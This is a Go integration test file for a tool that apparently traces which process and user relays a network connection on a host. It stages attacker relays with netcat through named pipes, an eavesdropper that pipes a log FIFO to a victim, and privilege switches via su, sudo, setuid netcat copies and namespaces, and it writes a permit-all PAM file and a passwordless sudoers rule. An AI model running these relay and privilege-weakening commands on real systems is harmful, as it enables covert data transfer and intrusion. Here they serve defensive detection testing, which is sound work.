package integration

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/stopd/stopd/host"
	"github.com/stopd/stopd/report"
)

// fifos makes named pipes of mallory's in the stage's directory on b.
func (s *stage) fifos(names ...string) {
	s.t.Helper()
	for _, n := range names {
		_, err := s.b.Host.RunAs(s.ctx, "mallory", "mkfifo", s.dir+"/"+n)
		s.must(err)
	}
}

func TestFIFORelay(t *testing.T) {
	for _, tt := range []struct{ name, near, far string }{
		{"there", "exec nc.traditional -l -p %d >there", "exec nc.traditional %s %d <there"},
		{"there and back", "exec nc.traditional -l -p %d <back >there", "exec nc.traditional %s %d >back <there"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			scenario(t, "SV_REC", func(s *stage) trail {
				s.fifos("there", "back")
				s.script("cd "+s.dir+"; "+tt.near, s.port)
				s.script("cd "+s.dir+"; "+tt.far, s.c.Host.Addr(), victimPort)
				s.connect(s.port)
				return s.through("nc.traditional", "nc.traditional")
			})
		})
	}
	// A pipe there and a FIFO back, as the manuals of netcat have it.
	t.Run("pipe and FIFO", func(t *testing.T) {
		scenario(t, "SV_REC", func(s *stage) trail {
			s.fifos("back")
			s.script("cd "+s.dir+"; nc.traditional -l -p %d <back | nc.traditional %s %d >back", s.port, s.c.Host.Addr(), victimPort)
			s.connect(s.port)
			return s.through("sh", "nc.traditional", "nc.traditional")
		})
	})
	// What the victim says comes to the attacker, and nothing else.
	t.Run("back", func(t *testing.T) {
		scenario(t, "SV_REC", func(s *stage) trail {
			s.fifos("back")
			says := s.openOn(s.c, "nc.traditional", "-l", "-p", fmt.Sprint(s.port))
			s.must(s.c.Host.WaitListen(s.ctx, s.port))
			s.script("cd "+s.dir+"; exec nc.traditional -l -p %d <back", s.port)
			s.script("cd "+s.dir+"; exec nc.traditional %s %d >back", s.c.Host.Addr(), s.port)
			s.listening(s.port)
			hears := s.open("nc.traditional", s.b.Host.Addr().String(), fmt.Sprint(s.port))
			s.send(says, s.word)
			_, err := hears.Expect(s.ctx, s.word)
			s.must(err)
			out := s.one(s.b, "connection with the victim", func(c connection) bool {
				return c.remote == netip.AddrPortFrom(s.c.Host.Addr(), s.port)
			})
			return trail{in: s.in(), out: out, names: []string{"nc.traditional", "nc.traditional"}}
		})
	})
}

// The intruder sends the victim what other users write to a service, and is the only one to be named for it.
func TestEavesdropper(t *testing.T) {
	scenario(t, "SV_REC", func(s *stage) trail {
		session := s.shell()
		s.send(session, fmt.Sprintf("(echo %s; exec cat <%s) | nc.traditional %s %d", s.word, logFIFO, s.c.Host.Addr(), victimPort))
		tr := s.through("cat", "nc.traditional", "bash", "sshd", "sshd")
		tr.beside = true // the writers and their service
		return tr
	})
}

// Whoever made the connections has given them to an unrelated process, and ended.
func TestDescriptorPassing(t *testing.T) {
	scenario(t, "SV_REC", func(s *stage) trail {
		path := s.dir + "/hand"
		keep := s.on(s.b, "mallory", "hand", "keep", path)
		s.exists(path)
		in := s.on(s.b, "mallory", "hand", "give", path, fmt.Sprint(s.port))
		s.connect(s.port)
		<-in.Done()
		out := s.on(s.b, "mallory", "hand", "give", path, fmt.Sprintf("%s:%d", s.c.Host.Addr(), victimPort))
		<-out.Done()
		tr := s.through("hand")
		if d := cmp.Diff([][]int{{keep.PID}, {keep.PID}}, [][]int{tr.in.pids, tr.out.pids}); d != "" {
			s.t.Fatalf("holders (-want +got):\n%s", d)
		}
		return tr
	})
}

// The asked connection is in no process: it was sent to a UNIX socket that nobody reads from.
func TestDescriptorInFlight(t *testing.T) {
	s := theWorld(t).stage(t)
	lost := s.on(s.b, "mallory", "hand", "lose", fmt.Sprint(s.port), fmt.Sprintf("%s:%d", s.c.Host.Addr(), victimPort))
	s.connect(s.port)
	s.heard(s.c)
	var out connection
	s.wait("wait until nobody holds the connection", func() (bool, error) {
		cs, err := connections(s.ctx, s.b.Host)
		for _, c := range cs {
			if s.of(s.c, c.remote.Addr()) && c.remote.Port() == victimPort {
				out = c
			}
		}
		return out.local.IsValid() && len(out.pids) == 0, err
	})
	before := s.answered()
	r := s.asked("SV_REC", out, true)
	if c := r.Report.Connection; c == nil || len(c.Owners) > 0 || len(r.Report.Processes) > 0 || len(r.Report.Previous) > 0 {
		t.Errorf("an owner is invented:\n%s", report.Text(r.Report))
	}
	if !hasGap(r.Report.Gaps, "owner") {
		t.Errorf("gaps are %v, none of the owner", r.Report.Gaps)
	}
	// The kernel tells where a descriptor is on its way, and not which.
	if !slices.ContainsFunc(r.Report.Gaps, func(g host.Gap) bool { return g.PID == lost.PID && strings.HasPrefix(g.Why, "1 descriptors were sent") }) {
		t.Errorf("gaps are %v, none of the descriptor on its way in process %d", r.Report.Gaps, lost.PID)
	}
	if d := cmp.Diff(map[string]int{"b": 1}, s.since(before)); d != "" {
		t.Errorf("answers by host (-want +got):\n%s", d)
	}
}

// Both connections are in the table of an io_uring instance alone. Somebody else's are as well.
func TestFixedFiles(t *testing.T) {
	scenario(t, "SV_REC", func(s *stage) trail {
		s.beside("service", "fixed", fmt.Sprint(s.port+1), s.c.Host.Addr().String(), fmt.Sprint(innocentPort))
		s.listening(s.port + 1)
		s.on(s.d, "mallory", "clients", fmt.Sprintf("b:%d:1:hello", s.port+1))
		relay := s.on(s.b, "mallory", "fixed", fmt.Sprint(s.port), s.c.Host.Addr().String(), fmt.Sprint(victimPort))
		s.connect(s.port)
		s.heard(s.c)
		var tr trail
		s.wait("wait until no descriptor holds the connections", func() (bool, error) {
			cs, err := connections(s.ctx, s.b.Host)
			for _, c := range cs {
				if s.of(s.a, c.remote.Addr()) {
					tr.in = c
				} else if s.of(s.c, c.remote.Addr()) && c.remote.Port() == victimPort {
					tr.out = c
				}
			}
			return tr.in.local.IsValid() && tr.out.local.IsValid() && len(tr.in.pids)+len(tr.out.pids) == 0, err
		})
		tr.in.pids, tr.out.pids = []int{relay.PID}, []int{relay.PID}
		tr.names = []string{"fixed"}
		return tr
	})
}

func hasGap(gaps []host.Gap, word string) bool {
	for _, g := range gaps {
		if strings.Contains(g.What+" "+g.Why, word) {
			return true
		}
	}
	return false
}

// The intruder becomes another user on the way.
func TestOtherUser(t *testing.T) {
	for _, tt := range []struct {
		name, sudoers, line string
		names               []string
	}{
		{"su", "", "su -c 'exec nc.traditional %s %d' www", []string{"su", "nc.traditional"}},
		{"sudo", "Defaults !use_pty", "sudo -u www nc.traditional %s %d", []string{"sudo", "nc.traditional"}},
		{"sudo with a terminal of its own", "Defaults use_pty", "sudo -u www nc.traditional %s %d", []string{"sudo", "sudo", "nc.traditional"}},
		{"setuid", "", "/usr/local/bin/nc-of-www %s %d", []string{"nc-of-www"}},
		{"login shell of another", "Defaults use_pty", "sudo -i -u www sh -c 'nc.traditional %s %d; true'", []string{"sudo", "sudo", "sh", "nc.traditional"}},
		{"root of a user namespace", "", "unshare --map-root-user nc.traditional %s %d", []string{"nc.traditional"}},
		{"namespaces of everything", "", "unshare --map-root-user --mount --uts --ipc --pid --fork --mount-proc nc.traditional %s %d", []string{"unshare", "nc.traditional"}},
		{"another's namespaces", "Defaults use_pty", "sudo nsenter --target $$ --mount --uts --ipc --pid setpriv --reuid www --regid www --clear-groups nc.traditional %s %d",
			[]string{"sudo", "sudo", "nsenter", "nc.traditional"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			scenario(t, "SV_REC", func(s *stage) trail {
				h := s.b.Host
				for _, service := range []string{"su", "sudo"} {
					s.must(h.WriteFile("/etc/pam.d/"+service, []byte(permitAll), 0o644, "root"))
				}
				sudoers := tt.sudoers + "\nDefaults !fqdn\nmallory ALL=(ALL) NOPASSWD: ALL\n"
				s.must(h.WriteFile("/etc/sudoers", []byte(sudoers), 0o440, "root"))
				_, err := h.Run(s.ctx, "install", "-m", "4755", "-o", "www", "/bin/nc.traditional", "/usr/local/bin/nc-of-www")
				s.must(err)
				session := s.shell()
				s.send(session, fmt.Sprintf(tt.line, s.c.Host.Addr(), victimPort))
				s.out(s.b, s.c)
				s.send(session, s.word)
				return s.through(append(tt.names, "bash", "sshd", "sshd")...)
			})
		})
	}
}
